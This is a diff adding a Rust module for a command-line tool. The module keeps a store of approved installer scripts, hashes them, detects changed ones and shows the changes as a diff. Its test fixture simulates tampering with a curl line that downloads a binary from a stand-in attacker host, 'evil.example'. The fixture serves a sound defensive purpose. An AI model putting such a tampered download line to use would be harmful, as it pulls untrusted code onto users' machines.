@@ -0,0 +1,137 @@
+use std::{
+    collections::BTreeMap,
+    fs, io,
+    path::{Path, PathBuf},
+    time::Duration,
+};
+
+use anyhow::{Context, Result};
+use serde::{Deserialize, Serialize};
+use similar::TextDiff;
+
+use crate::{cache, lockfile, paths};
+
+const TRUST_FILE: &str = "trusted-scripts.json";
+
+/// Installer scripts the user approved, keyed by URL, stored in
+/// `~/.local/share/ai-cli-apps/trusted-scripts.json`. The approved text is kept so a changed
+/// script can be shown as a diff.
+#[derive(Debug, Default, Deserialize, Serialize)]
+pub struct TrustStore {
+    #[serde(default)]
+    scripts: BTreeMap<String, Approved>,
+}
+
+#[derive(Debug, Clone, Deserialize, Serialize)]
+pub struct Approved {
+    pub sha256: String,
+    pub approved_at: u64,
+    pub content: String,
+}
+
+impl Approved {
+    pub fn age(&self) -> Duration {
+        Duration::from_secs(cache::now().saturating_sub(self.approved_at))
+    }
+}
+
+/// How a downloaded script compares with what was approved for its URL.
+#[derive(Debug)]
+pub enum Verdict<'a> {
+    Approved,
+    /// The URL was approved with different content.
+    Changed(&'a Approved),
+    /// Nothing was ever approved for the URL.
+    Unknown,
+}
+
+impl TrustStore {
+    fn path() -> Result<PathBuf> {
+        Ok(paths::data_dir()?.join(TRUST_FILE))
+    }
+
+    pub fn load() -> Result<Self> {
+        load_from(&Self::path()?)
+    }
+
+    pub fn save(&self) -> Result<()> {
+        let path = Self::path()?;
+        if let Some(parent) = path.parent() {
+            fs::create_dir_all(parent)
+                .with_context(|| format!("Failed to create {}", parent.display()))?;
+        }
+        let source =
+            serde_json::to_string_pretty(self).context("Failed to serialize trust store")?;
+        fs::write(&path, source).with_context(|| format!("Failed to write {}", path.display()))
+    }
+
+    pub fn check(&self, url: &str, sha256: &str) -> Verdict<'_> {
+        match self.scripts.get(url) {
+            Some(approved) if approved.sha256 == sha256 => Verdict::Approved,
+            Some(approved) => Verdict::Changed(approved),
+            None => Verdict::Unknown,
+        }
+    }
+
+    /// Records `content` as the approved script for `url`, replacing any earlier approval.
+    pub fn approve(&mut self, url: &str, content: &str) {
+        self.scripts.insert(
+            url.to_string(),
+            Approved {
+                sha256: lockfile::sha256_hex(content.as_bytes()),
+                approved_at: cache::now(),
+                content: content.to_string(),
+            },
+        );
+    }
+}
+
+fn load_from(path: &Path) -> Result<TrustStore> {
+    match fs::read_to_string(path) {
+        Ok(source) => serde_json::from_str(&source)
+            .with_context(|| format!("Failed to parse {}", path.display())),
+        Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(TrustStore::default()),
+        Err(e) => Err(e).with_context(|| format!("Failed to read {}", path.display())),
+    }
+}
+
+/// Unified diff from the approved script to the downloaded one.
+pub fn diff(approved: &str, downloaded: &str) -> String {
+    TextDiff::from_lines(approved, downloaded)
+        .unified_diff()
+        .context_radius(3)
+        .header("approved", "downloaded")
+        .to_string()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{TrustStore, Verdict, diff};
+    use crate::lockfile::sha256_hex;
+
+    #[test]
+    fn it_flags_scripts_that_changed_since_approval() {
+        let url = "https://example.com/install.sh";
+        let approved = "#!/bin/bash\nset -e\ncurl -fsSL https://example.com/bin -o bin\n";
+        let changed = "#!/bin/bash\nset -e\ncurl -fsSL https://evil.example/bin -o bin\n";
+
+        let mut store = TrustStore::default();
+        assert!(matches!(
+            store.check(url, &sha256_hex(approved.as_bytes())),
+            Verdict::Unknown
+        ));
+        store.approve(url, approved);
+        assert!(matches!(
+            store.check(url, &sha256_hex(approved.as_bytes())),
+            Verdict::Approved
+        ));
+        let Verdict::Changed(previous) = store.check(url, &sha256_hex(changed.as_bytes())) else {
+            panic!("expected a changed script");
+        };
+
+        let diff = diff(&previous.content, changed);
+        assert!(diff.contains("-curl -fsSL https://example.com/bin -o bin"));
+        assert!(diff.contains("+curl -fsSL https://evil.example/bin -o bin"));
+        assert!(!diff.contains("-set -e"));
+    }
+}